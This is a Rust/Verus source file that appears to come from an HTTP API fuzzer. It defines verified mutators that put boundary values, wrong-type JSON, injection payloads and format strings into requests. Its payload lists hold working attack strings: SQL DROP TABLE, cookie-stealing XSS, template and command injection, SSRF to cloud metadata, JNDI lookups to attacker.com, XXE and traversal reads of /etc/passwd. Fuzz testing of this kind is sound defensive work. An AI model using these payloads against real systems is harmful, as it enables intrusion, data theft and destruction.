//! Mutations aimed at parameter handling: boundary values, values of the wrong type,
//! injection payloads and format strings.
use vstd::prelude::*;
use libafl_bolts::rands::RomuDuoJrRand;
use super::rng::rand_below;
use super::input::{FuzzHttpRequest, RequestModel};
use super::sequence_mutator::MutationOutcome;
use super::mutator::{
    with_query, with_body, with_url, with_headers, quoted_member, quoted_member_text, replace_last_segment, body_json,
    parse_body,
};
use crate::string_map::insert_entry;
use crate::text::{chars_of, string_of, append_chars, contains_char, parse_i64, i64_decimal, rfind_char, slice_chars};
use crate::json::{
    Json, JsonValue, json_parse, json_text, parse_json, to_json_text, obj_insert, object_set, members_model,
    lemma_object_model, lemma_array_model, scalar_for,
};

verus! {

/// Boundary values: limits of integer types, empty and blank text, special words and numbers.
pub open spec fn boundary_values() -> Seq<Seq<char>> {
    seq![
        "0"@,
        "-1"@,
        "1"@,
        "2147483647"@,
        "-2147483648"@,
        "2147483648"@,
        "9999999999999999999"@,
        "9223372036854775807"@,
        "-9223372036854775808"@,
        ""@,
        " "@,
        "null"@,
        "undefined"@,
        "NaN"@,
        "Infinity"@,
        "-Infinity"@,
        "0.0"@,
        "-0.0"@,
        "1e308"@,
        "1e-308"@,
        "true"@,
        "false"@,
    ]
}

fn boundary_value(i: usize) -> (r: &'static str)
    requires
        i < 22,
    ensures
        r@ == boundary_values()[i as int],
{
    if i == 0 {
        "0"
    } else if i == 1 {
        "-1"
    } else if i == 2 {
        "1"
    } else if i == 3 {
        "2147483647"
    } else if i == 4 {
        "-2147483648"
    } else if i == 5 {
        "2147483648"
    } else if i == 6 {
        "9999999999999999999"
    } else if i == 7 {
        "9223372036854775807"
    } else if i == 8 {
        "-9223372036854775808"
    } else if i == 9 {
        ""
    } else if i == 10 {
        " "
    } else if i == 11 {
        "null"
    } else if i == 12 {
        "undefined"
    } else if i == 13 {
        "NaN"
    } else if i == 14 {
        "Infinity"
    } else if i == 15 {
        "-Infinity"
    } else if i == 16 {
        "0.0"
    } else if i == 17 {
        "-0.0"
    } else if i == 18 {
        "1e308"
    } else if i == 19 {
        "1e-308"
    } else if i == 20 {
        "true"
    } else {
        "false"
    }
}

/// Values of the wrong JSON type, and objects that pollute prototypes.
pub open spec fn type_payloads() -> Seq<Seq<char>> {
    seq![
        "[]"@,
        "{}"@,
        "[1,2,3]"@,
        "\"string_not_int\""@,
        "12345"@,
        "true"@,
        "null"@,
        "{\"__proto__\": {\"admin\": true}}"@,
        "[null, null, null]"@,
        "\"\""@,
        "{\"toString\": \"evil\"}"@,
        "{\"constructor\": {\"prototype\": {\"isAdmin\": true}}}"@,
    ]
}

fn type_payload(i: usize) -> (r: &'static str)
    requires
        i < 12,
    ensures
        r@ == type_payloads()[i as int],
{
    if i == 0 {
        "[]"
    } else if i == 1 {
        "{}"
    } else if i == 2 {
        "[1,2,3]"
    } else if i == 3 {
        "\"string_not_int\""
    } else if i == 4 {
        "12345"
    } else if i == 5 {
        "true"
    } else if i == 6 {
        "null"
    } else if i == 7 {
        "{\"__proto__\": {\"admin\": true}}"
    } else if i == 8 {
        "[null, null, null]"
    } else if i == 9 {
        "\"\""
    } else if i == 10 {
        "{\"toString\": \"evil\"}"
    } else {
        "{\"constructor\": {\"prototype\": {\"isAdmin\": true}}}"
    }
}

/// Injection payloads: SQL, NoSQL, XSS, template, SSRF, command, path traversal, JNDI, XXE and Unicode tricks.
pub open spec fn injection_payloads() -> Seq<Seq<char>> {
    seq![
        "' OR '1'='1"@,
        "'; DROP TABLE users; --"@,
        "1 UNION SELECT null,null,null--"@,
        "' OR 1=1#"@,
        "admin'--"@,
        "1; WAITFOR DELAY '0:0:5'--"@,
        "{\"$gt\": \"\"}"@,
        "{\"$ne\": null}"@,
        "{\"$regex\": \".*\"}"@,
        "<img src=x onerror=alert(1)>"@,
        "javascript:alert(1)"@,
        "<svg/onload=alert(1)>"@,
        "'\"><script>alert(document.cookie)</script>"@,
        "{{7*7}}"@,
        "${7*7}"@,
        "#{7*7}"@,
        "<%= 7*7 %>"@,
        "{%import os%}{{os.popen('id').read()}}"@,
        "http://127.0.0.1:80"@,
        "http://169.254.169.254/latest/meta-data/"@,
        "http://[::1]:80/"@,
        "file:///etc/passwd"@,
        "; id"@,
        "| cat /etc/passwd"@,
        "$(whoami)"@,
        "`id`"@,
        "....//....//....//etc/passwd"@,
        "..%252f..%252f..%252fetc/passwd"@,
        "%2e%2e%2f%2e%2e%2f"@,
        "${jndi:ldap://attacker.com/a}"@,
        "${jndi:rmi://attacker.com/a}"@,
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"@,
        "\u{0000}"@,
        "\u{FEFF}admin"@,
        "admin\u{0085}"@,
    ]
}

fn injection_payload(i: usize) -> (r: &'static str)
    requires
        i < 35,
    ensures
        r@ == injection_payloads()[i as int],
{
    if i == 0 {
        "' OR '1'='1"
    } else if i == 1 {
        "'; DROP TABLE users; --"
    } else if i == 2 {
        "1 UNION SELECT null,null,null--"
    } else if i == 3 {
        "' OR 1=1#"
    } else if i == 4 {
        "admin'--"
    } else if i == 5 {
        "1; WAITFOR DELAY '0:0:5'--"
    } else if i == 6 {
        "{\"$gt\": \"\"}"
    } else if i == 7 {
        "{\"$ne\": null}"
    } else if i == 8 {
        "{\"$regex\": \".*\"}"
    } else if i == 9 {
        "<img src=x onerror=alert(1)>"
    } else if i == 10 {
        "javascript:alert(1)"
    } else if i == 11 {
        "<svg/onload=alert(1)>"
    } else if i == 12 {
        "'\"><script>alert(document.cookie)</script>"
    } else if i == 13 {
        "{{7*7}}"
    } else if i == 14 {
        "${7*7}"
    } else if i == 15 {
        "#{7*7}"
    } else if i == 16 {
        "<%= 7*7 %>"
    } else if i == 17 {
        "{%import os%}{{os.popen('id').read()}}"
    } else if i == 18 {
        "http://127.0.0.1:80"
    } else if i == 19 {
        "http://169.254.169.254/latest/meta-data/"
    } else if i == 20 {
        "http://[::1]:80/"
    } else if i == 21 {
        "file:///etc/passwd"
    } else if i == 22 {
        "; id"
    } else if i == 23 {
        "| cat /etc/passwd"
    } else if i == 24 {
        "$(whoami)"
    } else if i == 25 {
        "`id`"
    } else if i == 26 {
        "....//....//....//etc/passwd"
    } else if i == 27 {
        "..%252f..%252f..%252fetc/passwd"
    } else if i == 28 {
        "%2e%2e%2f%2e%2e%2f"
    } else if i == 29 {
        "${jndi:ldap://attacker.com/a}"
    } else if i == 30 {
        "${jndi:rmi://attacker.com/a}"
    } else if i == 31 {
        "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"
    } else if i == 32 {
        "\u{0000}"
    } else if i == 33 {
        "\u{FEFF}admin"
    } else {
        "admin\u{0085}"
    }
}

/// Query parameter names an injection payload goes into.
pub open spec fn injection_param_names() -> Seq<Seq<char>> {
    seq![
        "q"@,
        "search"@,
        "id"@,
        "name"@,
        "input"@,
        "data"@,
        "filter"@,
        "query"@,
    ]
}

fn injection_param_name(i: usize) -> (r: &'static str)
    requires
        i < 8,
    ensures
        r@ == injection_param_names()[i as int],
{
    if i == 0 {
        "q"
    } else if i == 1 {
        "search"
    } else if i == 2 {
        "id"
    } else if i == 3 {
        "name"
    } else if i == 4 {
        "input"
    } else if i == 5 {
        "data"
    } else if i == 6 {
        "filter"
    } else {
        "query"
    }
}

/// Format-string payloads.
pub open spec fn format_strings() -> Seq<Seq<char>> {
    seq![
        "%s%s%s%s%s"@,
        "%x%x%x%x"@,
        "%n%n%n%n"@,
        "%d%d%d%d"@,
        "%p%p%p%p"@,
        "{0}{1}{2}{3}"@,
        "AAAA%08x.%08x.%08x.%08x"@,
        "%99999999s"@,
    ]
}

fn format_string(i: usize) -> (r: &'static str)
    requires
        i < 8,
    ensures
        r@ == format_strings()[i as int],
{
    if i == 0 {
        "%s%s%s%s%s"
    } else if i == 1 {
        "%x%x%x%x"
    } else if i == 2 {
        "%n%n%n%n"
    } else if i == 3 {
        "%d%d%d%d"
    } else if i == 4 {
        "%p%p%p%p"
    } else if i == 5 {
        "{0}{1}{2}{3}"
    } else if i == 6 {
        "AAAA%08x.%08x.%08x.%08x"
    } else {
        "%99999999s"
    }
}

// ---------------------------------------------------------------------------
// JSON targets
// ---------------------------------------------------------------------------

/// Number of members of an object or elements of an array; 0 for any other value.
pub open spec fn json_len(j: Json) -> nat {
    match j {
        Json::Object(m) => m.len(),
        Json::Array(a) => a.len(),
        _ => 0,
    }
}

/// Number of members or elements of a JSON value (see `json_len`).
pub fn json_len_exec(v: &JsonValue) -> (r: usize)
    ensures
        r == json_len(v.model()),
{
    match v {
        JsonValue::Object(members) => {
            proof {
                lemma_object_model(*members);
            }
            members.len()
        },
        JsonValue::Array(items) => {
            proof {
                lemma_array_model(*items);
            }
            items.len()
        },
        _ => 0,
    }
}

/// What a boundary value does to a JSON value, `pos` being the drawn array position: an
/// object's first member takes it (as a number when it reads as an `i64`, else as a
/// string); element `pos` of a non-empty array takes it as a string; an empty object or
/// array stays; any other value becomes that string.
pub open spec fn boundary_at(j: Json, b: Seq<char>, pos: int) -> Json {
    match j {
        Json::Object(m) => if m.len() > 0 {
            Json::Object(obj_insert(m, m[0].0, scalar_for(b)))
        } else {
            j
        },
        Json::Array(a) => if a.len() > 0 {
            Json::Array(a.update(pos, Json::Str(b)))
        } else {
            j
        },
        _ => Json::Str(b),
    }
}

/// A position that `inject_boundary_into_json` can draw for `j`: one inside a non-empty array.
pub open spec fn boundary_pos_ok(j: Json, pos: int) -> bool {
    j is Array && json_len(j) > 0 ==> 0 <= pos < json_len(j)
}

/// What `inject_boundary_into_json` can make of `j`: its result for a position it can draw.
pub open spec fn boundary_json(j: Json, b: Seq<char>, r: Json) -> bool {
    exists|pos: int| boundary_pos_ok(j, pos) && r == #[trigger] boundary_at(j, b, pos)
}

fn scalar_value(value: &str) -> (r: JsonValue)
    ensures
        r.model() == scalar_for(value@),
{
    match parse_i64(&chars_of(value)) {
        Some(n) => JsonValue::Number(string_of(&i64_decimal(n))),
        None => JsonValue::Str(value.to_owned()),
    }
}

/// Puts a boundary value into a JSON value at the position `pos` (see `boundary_at`).
pub fn put_boundary_at(val: &mut JsonValue, boundary: &str, pos: usize)
    requires
        boundary_pos_ok(old(val).model(), pos as int),
    ensures
        final(val).model() == boundary_at(old(val).model(), boundary@, pos as int),
{
    let mut v = JsonValue::Null;
    std::mem::swap(&mut v, val);
    let r = match v {
        JsonValue::Object(members) => {
            let mut members = members;
            proof {
                lemma_object_model(members);
            }
            if members.len() > 0 {
                let key = members[0].0.clone();
                object_set(&mut members, key, scalar_value(boundary));
            }
            proof {
                lemma_object_model(members);
            }
            JsonValue::Object(members)
        },
        JsonValue::Array(items) => {
            let mut items = items;
            proof {
                lemma_array_model(items);
            }
            let ghost a = Seq::new(items@.len(), |i: int| items@[i].model());
            if items.len() > 0 {
                items.set(pos, JsonValue::Str(boundary.to_owned()));
                proof {
                    lemma_array_model(items);
                    assert(Seq::new(items@.len(), |i: int| items@[i].model()) =~= a.update(pos as int, Json::Str(boundary@)));
                }
            }
            JsonValue::Array(items)
        },
        _ => JsonValue::Str(boundary.to_owned()),
    };
    *val = r;
}

/// The position `inject_boundary_into_json` draws for `v`: below the length of a non-empty
/// array, no draw otherwise.
fn draw_boundary_pos(rand: &mut RomuDuoJrRand, v: &JsonValue) -> (pos: usize)
    ensures
        boundary_pos_ok(v.model(), pos as int),
{
    let n = json_len_exec(v);
    match v {
        JsonValue::Array(_) => if n > 0 {
            rand_below(rand, n)
        } else {
            0
        },
        _ => 0,
    }
}

/// Puts a boundary value into a JSON value at a random position (see `boundary_at`).
pub fn inject_boundary_into_json(rand: &mut RomuDuoJrRand, val: &mut JsonValue, boundary: &str)
    ensures
        boundary_json(old(val).model(), boundary@, final(val).model()),
{
    let ghost j = val.model();
    let pos = draw_boundary_pos(rand, val);
    put_boundary_at(val, boundary, pos);
    assert(boundary_pos_ok(j, pos as int) && val.model() == boundary_at(j, boundary@, pos as int));
}

/// What a payload does to a JSON value, `pos` being the drawn position: member `pos` of a
/// non-empty object or element `pos` of a non-empty array takes it as a string; an empty
/// array gets it as its only element; an empty object stays; any other value becomes that
/// string.
pub open spec fn payload_at(j: Json, p: Seq<char>, pos: int) -> Json {
    match j {
        Json::Object(m) => if m.len() > 0 {
            Json::Object(obj_insert(m, m[pos].0, Json::Str(p)))
        } else {
            j
        },
        Json::Array(a) => if a.len() > 0 {
            Json::Array(a.update(pos, Json::Str(p)))
        } else {
            Json::Array(seq![Json::Str(p)])
        },
        _ => Json::Str(p),
    }
}

/// A position that `inject_payload_into_json` can draw for `j`: one inside a non-empty
/// object or array.
pub open spec fn payload_pos_ok(j: Json, pos: int) -> bool {
    json_len(j) > 0 ==> 0 <= pos < json_len(j)
}

/// What `inject_payload_into_json` can make of `j`: its result for a position it can draw.
pub open spec fn payload_json(j: Json, p: Seq<char>, r: Json) -> bool {
    exists|pos: int| payload_pos_ok(j, pos) && r == #[trigger] payload_at(j, p, pos)
}

/// Puts a payload into a JSON value at the position `pos` (see `payload_at`).
pub fn put_payload_at(val: &mut JsonValue, payload: &str, pos: usize)
    requires
        payload_pos_ok(old(val).model(), pos as int),
    ensures
        final(val).model() == payload_at(old(val).model(), payload@, pos as int),
{
    let mut v = JsonValue::Null;
    std::mem::swap(&mut v, val);
    let r = match v {
        JsonValue::Object(members) => {
            let mut members = members;
            proof {
                lemma_object_model(members);
            }
            let ghost m = members_model(members@);
            if members.len() > 0 {
                let key = members[pos].0.clone();
                assert(key@ == m[pos as int].0);
                object_set(&mut members, key, JsonValue::Str(payload.to_owned()));
            }
            proof {
                lemma_object_model(members);
            }
            JsonValue::Object(members)
        },
        JsonValue::Array(items) => {
            let mut items = items;
            proof {
                lemma_array_model(items);
            }
            let ghost a = Seq::new(items@.len(), |i: int| items@[i].model());
            if items.len() > 0 {
                items.set(pos, JsonValue::Str(payload.to_owned()));
                proof {
                    lemma_array_model(items);
                    assert(Seq::new(items@.len(), |i: int| items@[i].model()) =~= a.update(pos as int, Json::Str(payload@)));
                }
            } else {
                items.push(JsonValue::Str(payload.to_owned()));
                proof {
                    lemma_array_model(items);
                    assert(Seq::new(items@.len(), |i: int| items@[i].model()) =~= seq![Json::Str(payload@)]);
                }
            }
            JsonValue::Array(items)
        },
        _ => JsonValue::Str(payload.to_owned()),
    };
    *val = r;
}

/// The position `inject_payload_into_json` draws for `v`: below the length of a non-empty
/// object or array, no draw otherwise.
fn draw_payload_pos(rand: &mut RomuDuoJrRand, v: &JsonValue) -> (pos: usize)
    ensures
        payload_pos_ok(v.model(), pos as int),
{
    let n = json_len_exec(v);
    if n > 0 {
        rand_below(rand, n)
    } else {
        0
    }
}

/// Puts a payload into a JSON value at a random position (see `payload_at`).
pub fn inject_payload_into_json(rand: &mut RomuDuoJrRand, val: &mut JsonValue, payload: &str)
    ensures
        payload_json(old(val).model(), payload@, final(val).model()),
{
    let ghost j = val.model();
    let pos = draw_payload_pos(rand, val);
    put_payload_at(val, payload, pos);
    assert(payload_pos_ok(j, pos as int) && val.model() == payload_at(j, payload@, pos as int));
}

// ---------------------------------------------------------------------------
// Request mutations
// ---------------------------------------------------------------------------

/// The first query parameter set to `v`, or a parameter named `default_key` when there is none.
pub open spec fn first_param_set(o: RequestModel, default_key: Seq<char>, v: Seq<char>) -> RequestModel {
    let q = o.query_params;
    if q.len() > 0 {
        with_query(o, insert_entry(q, q[0].0, v))
    } else {
        with_query(o, insert_entry(q, default_key, v))
    }
}

/// The URL with a boundary value: appended when the URL holds `{` or ends in `/`, else in
/// place of the last path segment.
pub open spec fn boundary_url(url: Seq<char>, v: Seq<char>) -> Seq<char> {
    if url.contains('{') || (url.len() > 0 && url.last() == '/') {
        url + v
    } else {
        replace_last_segment(url, v)
    }
}

/// What `mutate_boundary_values` does for the draws: boundary value `idx` put into the
/// first query parameter, or `id` when there is none (target 0); into a JSON body at `pos`
/// (see `boundary_at`), a body that is not JSON left alone, and a missing body set to
/// `{"value": <v>}` (target 1); or into the URL (see `boundary_url`).
pub open spec fn boundary_result(o: RequestModel, idx: int, target: nat, pos: int) -> RequestModel {
    let v = boundary_values()[idx];
    if target == 0 {
        first_param_set(o, "id"@, v)
    } else if target == 1 {
        match o.body {
            Some(b) => match json_parse(b) {
                Some(j) => with_body(o, Some(json_text(boundary_at(j, v, pos)))),
                None => o,
            },
            None => with_body(o, Some("{\"value\": "@ + v + "}"@)),
        }
    } else {
        with_url(o, boundary_url(o.url, v))
    }
}

/// Draws that `mutate_boundary_values` can make for the request `o`.
pub open spec fn boundary_draw_ok(o: RequestModel, idx: int, target: nat, pos: int) -> bool {
    &&& 0 <= idx < 22
    &&& target < 3
    &&& (target == 1 && body_json(o) is Some ==> boundary_pos_ok(body_json(o)->0, pos))
}

/// What `mutate_boundary_values` can do: its result for some draws it can make.
pub open spec fn boundary_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|idx: int, target: nat, pos: int|
        boundary_draw_ok(o, idx, target, pos) && n == #[trigger] boundary_result(o, idx, target, pos)
}

fn set_first_param(input: &mut FuzzHttpRequest, default_key: &str, value: String)
    requires
        old(input).wf(),
    ensures
        final(input)@ == first_param_set(old(input)@, default_key@, value@),
        final(input).wf(),
{
    match input.query_params.first_key() {
        Some(key) => {
            input.query_params.insert(key, value);
        },
        None => {
            input.query_params.insert(default_key.to_owned(), value);
        },
    }
}

/// Puts boundary value `idx` into the request at `target` (see `boundary_result`).
pub fn apply_boundary_value(input: &mut FuzzHttpRequest, idx: usize, target: usize, pos: usize)
    requires
        old(input).wf(),
        boundary_draw_ok(old(input)@, idx as int, target as nat, pos as int),
    ensures
        final(input)@ == boundary_result(old(input)@, idx as int, target as nat, pos as int),
        final(input).wf(),
{
    let ghost o = input@;
    let value = boundary_value(idx).to_owned();
    let ghost v = boundary_values()[idx as int];
    if target == 0 {
        set_first_param(input, "id", value);
    } else if target == 1 {
        let parsed = match &input.body {
            Some(b) => Some(parse_json(b.as_str())),
            None => None,
        };
        match parsed {
            Some(Some(json)) => {
                let mut json = json;
                put_boundary_at(&mut json, value.as_str(), pos);
                input.body = Some(to_json_text(&json));
            },
            Some(None) => {},
            None => {
                let mut t = chars_of("{\"value\": ");
                append_chars(&mut t, &chars_of(value.as_str()));
                append_chars(&mut t, &chars_of("}"));
                input.body = Some(string_of(&t));
                assert(input@ == with_body(o, Some("{\"value\": "@ + v + "}"@)));
            },
        }
    } else {
        let u = chars_of(input.url.as_str());
        if contains_char(&u, '{') || (u.len() > 0 && u[u.len() - 1] == '/') {
            let mut out = u;
            append_chars(&mut out, &chars_of(value.as_str()));
            input.url = string_of(&out);
        } else {
            match rfind_char(&u, '/') {
                Some(p) => {
                    let mut out = slice_chars(&u, 0, p + 1);
                    append_chars(&mut out, &chars_of(value.as_str()));
                    input.url = string_of(&out);
                },
                None => {},
            }
        }
        assert(input@ == with_url(o, boundary_url(o.url, v)));
    }
}

/// Puts a random boundary value somewhere in the request (see `boundary_result`).
pub fn mutate_boundary_values(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        boundary_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 22);
    let target = rand_below(rand, 3);
    let pos = if target == 1 {
        match parse_body(input) {
            Some(j) => draw_boundary_pos(rand, &j),
            None => 0,
        }
    } else {
        0
    };
    apply_boundary_value(input, idx, target, pos);
    assert(boundary_draw_ok(o, idx as int, target as nat, pos as int)
        && input@ == boundary_result(o, idx as int, target as nat, pos as int));
}

/// The JSON value with its first member (of an object) set to the payload read as JSON.
pub open spec fn confused_json(j: Json, p: Seq<char>) -> Json {
    match j {
        Json::Object(m) => if m.len() > 0 {
            match json_parse(p) {
                Some(nv) => Json::Object(obj_insert(m, m[0].0, nv)),
                None => j,
            }
        } else {
            j
        },
        _ => j,
    }
}

/// What `mutate_type_confusion` does with wrong-type payload `idx`: in place of a JSON
/// body's first member; or as the whole body when it is not JSON; or, with no body, as the
/// body with a JSON content type.
pub open spec fn type_confusion_result(o: RequestModel, idx: int) -> RequestModel {
    let p = type_payloads()[idx];
    match o.body {
        Some(b) => match json_parse(b) {
            Some(j) => with_body(o, Some(json_text(confused_json(j, p)))),
            None => with_body(o, Some(p)),
        },
        None => RequestModel {
            body: Some(p),
            headers: insert_entry(o.headers, "Content-Type"@, "application/json"@),
            ..o
        },
    }
}

/// What `mutate_type_confusion` can do: its result for some payload it can draw.
pub open spec fn type_confused(o: RequestModel, n: RequestModel) -> bool {
    exists|idx: int| 0 <= idx < 12 && n == #[trigger] type_confusion_result(o, idx)
}

/// Puts wrong-type payload `idx` into the body (see `type_confusion_result`).
pub fn apply_type_confusion(input: &mut FuzzHttpRequest, idx: usize)
    requires
        old(input).wf(),
        idx < 12,
    ensures
        final(input)@ == type_confusion_result(old(input)@, idx as int),
        final(input).wf(),
{
    let payload = type_payload(idx);
    let ghost p = type_payloads()[idx as int];
    let parsed = match &input.body {
        Some(b) => Some(parse_json(b.as_str())),
        None => None,
    };
    match parsed {
        Some(Some(json)) => {
            let ghost j = json.model();
            let out = match json {
                JsonValue::Object(members) => {
                    let mut members = members;
                    proof {
                        lemma_object_model(members);
                    }
                    if members.len() > 0 {
                        let key = members[0].0.clone();
                        match parse_json(payload) {
                            Some(nv) => {
                                object_set(&mut members, key, nv);
                            },
                            None => {},
                        }
                    }
                    proof {
                        lemma_object_model(members);
                    }
                    JsonValue::Object(members)
                },
                other => other,
            };
            assert(out.model() == confused_json(j, p));
            input.body = Some(to_json_text(&out));
        },
        Some(None) => {
            input.body = Some(payload.to_owned());
        },
        None => {
            input.body = Some(payload.to_owned());
            input.headers.insert("Content-Type".to_owned(), "application/json".to_owned());
        },
    }
}

/// Puts a random wrong-type payload into the body (see `type_confusion_result`).
pub fn mutate_type_confusion(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        type_confused(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 12);
    apply_type_confusion(input, idx);
    assert(input@ == type_confusion_result(o, idx as int));
}

/// What `mutate_injection_payloads` does for the draws: injection payload `idx` put into
/// query parameter `key` of `injection_param_names` (target 0); into a JSON body at `pos`
/// (see `payload_at`), or, when the body is not JSON, as `{"data": "<payload>"}`, and with
/// no body as `{"input": "<payload>"}` (target 1); after a `/` at the end of the URL
/// (target 2); or into the `X-Forwarded-For` and `Referer` headers.
pub open spec fn injection_result(o: RequestModel, idx: int, target: nat, key: int, pos: int) -> RequestModel {
    let p = injection_payloads()[idx];
    if target == 0 {
        with_query(o, insert_entry(o.query_params, injection_param_names()[key], p))
    } else if target == 1 {
        match o.body {
            Some(b) => match json_parse(b) {
                Some(j) => with_body(o, Some(json_text(payload_at(j, p, pos)))),
                None => with_body(o, Some(quoted_member("data"@, p))),
            },
            None => with_body(o, Some(quoted_member("input"@, p))),
        }
    } else if target == 2 {
        with_url(o, o.url + "/"@ + p)
    } else {
        with_headers(o, insert_entry(insert_entry(o.headers, "X-Forwarded-For"@, p), "Referer"@, p))
    }
}

/// Draws that `mutate_injection_payloads` can make for the request `o`.
pub open spec fn injection_draw_ok(o: RequestModel, idx: int, target: nat, key: int, pos: int) -> bool {
    &&& 0 <= idx < 35
    &&& target < 4
    &&& 0 <= key < 8
    &&& (target == 1 && body_json(o) is Some ==> payload_pos_ok(body_json(o)->0, pos))
}

/// What `mutate_injection_payloads` can do: its result for some draws it can make.
pub open spec fn injected(o: RequestModel, n: RequestModel) -> bool {
    exists|idx: int, target: nat, key: int, pos: int|
        injection_draw_ok(o, idx, target, key, pos) && n == #[trigger] injection_result(o, idx, target, key, pos)
}

/// Puts injection payload `idx` into the request at `target` (see `injection_result`).
pub fn apply_injection_payload(input: &mut FuzzHttpRequest, idx: usize, target: usize, key: usize, pos: usize)
    requires
        old(input).wf(),
        injection_draw_ok(old(input)@, idx as int, target as nat, key as int, pos as int),
    ensures
        final(input)@ == injection_result(old(input)@, idx as int, target as nat, key as int, pos as int),
        final(input).wf(),
{
    let ghost o = input@;
    let payload = injection_payload(idx).to_owned();
    let ghost p = injection_payloads()[idx as int];
    if target == 0 {
        input.query_params.insert(injection_param_name(key).to_owned(), payload);
        assert(input@ == with_query(o, insert_entry(o.query_params, injection_param_names()[key as int], p)));
    } else if target == 1 {
        let parsed = match &input.body {
            Some(b) => Some(parse_json(b.as_str())),
            None => None,
        };
        match parsed {
            Some(Some(json)) => {
                let mut json = json;
                put_payload_at(&mut json, payload.as_str(), pos);
                input.body = Some(to_json_text(&json));
            },
            Some(None) => {
                input.body = Some(quoted_member_text("data", payload.as_str()));
            },
            None => {
                input.body = Some(quoted_member_text("input", payload.as_str()));
            },
        }
    } else if target == 2 {
        let mut u = chars_of(input.url.as_str());
        u.push('/');
        append_chars(&mut u, &chars_of(payload.as_str()));
        input.url = string_of(&u);
        proof {
            reveal_strlit("/");
        }
        assert(input.url@ =~= o.url + "/"@ + p);
    } else {
        input.headers.insert("X-Forwarded-For".to_owned(), payload.clone());
        input.headers.insert("Referer".to_owned(), payload);
    }
}

/// Puts a random injection payload somewhere in the request (see `injection_result`).
pub fn mutate_injection_payloads(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        injected(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 35);
    let target = rand_below(rand, 4);
    let key = if target == 0 {
        rand_below(rand, 8)
    } else {
        0
    };
    let pos = if target == 1 {
        match parse_body(input) {
            Some(j) => draw_payload_pos(rand, &j),
            None => 0,
        }
    } else {
        0
    };
    apply_injection_payload(input, idx, target, key, pos);
    assert(injection_draw_ok(o, idx as int, target as nat, key as int, pos as int)
        && input@ == injection_result(o, idx as int, target as nat, key as int, pos as int));
}

/// What `mutate_format_strings` does for the draws: format string `idx` put into the first
/// query parameter, or `fmt` when there is none (target 0); or into a JSON body at `pos`
/// (see `payload_at`), leaving a body that is missing or not JSON alone.
pub open spec fn format_string_result(o: RequestModel, idx: int, target: nat, pos: int) -> RequestModel {
    let p = format_strings()[idx];
    if target == 0 {
        first_param_set(o, "fmt"@, p)
    } else {
        match body_json(o) {
            Some(j) => with_body(o, Some(json_text(payload_at(j, p, pos)))),
            None => o,
        }
    }
}

/// Draws that `mutate_format_strings` can make for the request `o`.
pub open spec fn format_draw_ok(o: RequestModel, idx: int, target: nat, pos: int) -> bool {
    &&& 0 <= idx < 8
    &&& target < 2
    &&& (target == 1 && body_json(o) is Some ==> payload_pos_ok(body_json(o)->0, pos))
}

/// What `mutate_format_strings` can do: its result for some draws it can make.
pub open spec fn format_string_mutated(o: RequestModel, n: RequestModel) -> bool {
    exists|idx: int, target: nat, pos: int|
        format_draw_ok(o, idx, target, pos) && n == #[trigger] format_string_result(o, idx, target, pos)
}

/// Puts format string `idx` into the request at `target` (see `format_string_result`).
pub fn apply_format_string(input: &mut FuzzHttpRequest, idx: usize, target: usize, pos: usize)
    requires
        old(input).wf(),
        format_draw_ok(old(input)@, idx as int, target as nat, pos as int),
    ensures
        final(input)@ == format_string_result(old(input)@, idx as int, target as nat, pos as int),
        final(input).wf(),
{
    let payload = format_string(idx).to_owned();
    if target == 0 {
        set_first_param(input, "fmt", payload);
    } else {
        match parse_body(input) {
            Some(json) => {
                let mut json = json;
                put_payload_at(&mut json, payload.as_str(), pos);
                input.body = Some(to_json_text(&json));
            },
            None => {},
        }
    }
}

/// Puts a random format-string payload into the request (see `format_string_result`).
pub fn mutate_format_strings(rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest)
    requires
        old(input).wf(),
    ensures
        format_string_mutated(old(input)@, final(input)@),
        final(input).wf(),
{
    let ghost o = input@;
    let idx = rand_below(rand, 8);
    let target = rand_below(rand, 2);
    let pos = if target == 1 {
        match parse_body(input) {
            Some(j) => draw_payload_pos(rand, &j),
            None => 0,
        }
    } else {
        0
    };
    apply_format_string(input, idx, target, pos);
    assert(format_draw_ok(o, idx as int, target as nat, pos as int)
        && input@ == format_string_result(o, idx as int, target as nat, pos as int));
}

/// Mutates parameters with boundary values, wrong types, injection payloads and format strings.
#[derive(Debug)]
pub struct ParamMutator {}

impl ParamMutator {
    pub fn new() -> (r: Self) {
        ParamMutator {}
    }

    /// One of four mutations, picked at random.
    pub fn mutate(&mut self, rand: &mut RomuDuoJrRand, input: &mut FuzzHttpRequest) -> (r: MutationOutcome)
        requires
            old(input).wf(),
        ensures
            r == MutationOutcome::Mutated,
            final(input).wf(),
            boundary_mutated(old(input)@, final(input)@) || type_confused(old(input)@, final(input)@)
                || injected(old(input)@, final(input)@) || format_string_mutated(old(input)@, final(input)@),
    {
        let choice = rand_below(rand, 4);
        if choice == 0 {
            mutate_boundary_values(rand, input);
        } else if choice == 1 {
            mutate_type_confusion(rand, input);
        } else if choice == 2 {
            mutate_injection_payloads(rand, input);
        } else {
            mutate_format_strings(rand, input);
        }
        MutationOutcome::Mutated
    }
}

} // verus!
